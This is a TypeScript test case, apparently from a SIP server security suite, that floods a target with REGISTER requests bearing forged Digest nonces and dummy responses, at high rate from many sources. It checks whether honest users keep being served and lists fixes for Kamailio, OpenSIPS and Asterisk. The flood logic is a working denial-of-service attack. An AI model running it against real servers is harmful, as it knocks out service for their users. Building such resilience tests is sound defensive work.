import { attack } from '../attack.ts'
import { floodText } from '../flooding.ts'
import { askedForProof, registering } from '../proof.ts'
import { floodAndCall, HONEST_MESSAGES } from '../under-load.ts'

const COUNT = 10_000

/** Each answers a challenge that was never given, with a nonce that looks like one: state or reckoning for each is a door. */
export const forgedNonceFlood = attack({
  id: 'forged-nonce-flood',
  entry: 'C15',
  title: 'floods with credentials of a user whose nonces are almost those of the server',
  threats: ['authentication-load', 'flooding'],
  clause: '§3.3, load of authentication; Table 1, row 6',
  references: ['RFC 7616 §5.8', 'RFC 3261 §26.3.2.4'],
  severity: 'high',
  isIntrusive: true,
  maxMessages: 2 * COUNT + HONEST_MESSAGES,
  needs: ['account'],
  expected: 'A forged nonce costs next to nothing: honest users are served meanwhile.',
  mending: {
    aspis:
      'On by default: a nonce is judged by one keyed hash, before anybody is looked up, and nothing is kept of it.',
    kamailio:
      'Let `www_authenticate()` check the nonce before the database is asked, and count sources with `pike`.',
    opensips:
      'Let `www_authorize()` check the nonce before the database is asked, and count sources with `pike`.',
    asterisk:
      'PJSIP has no bound for strangers: put an edge before it, or a packet filter with a rate for each source.',
  },
  async run(trial) {
    const { domain } = trial.target
    const alice = await trial.user(0)
    const { challenge } = await askedForProof(alice, registering(alice))
    const nonce = `{n}${challenge.nonce.slice(16)}`
    const user = alice.account?.authUser ?? alice.account?.user ?? ''
    const response = '0'.repeat(/256/.test(challenge.algorithm) ? 64 : 32)
    const proof = `username="${user}", realm="${challenge.realm}", nonce="${nonce}", uri="sip:${domain}", response="${response}"`
    const opaque = challenge.opaque === '' ? '' : `, opaque="${challenge.opaque}"`
    const rest = `algorithm=${challenge.algorithm}${opaque}, qop=auth, nc=00000001, cnonce="{n}"`
    const lines = [`Authorization: Digest ${proof}, ${rest}`]
    const saying = { method: 'REGISTER', uri: `sip:${domain}`, from: alice.aor, to: alice.aor, lines }
    const texts = [floodText(domain, saying)]
    return floodAndCall(trial, 'REGISTERs with forged nonces', {
      texts,
      perSecond: 4_000,
      count: COUNT,
      sources: 40,
    })
  },
})
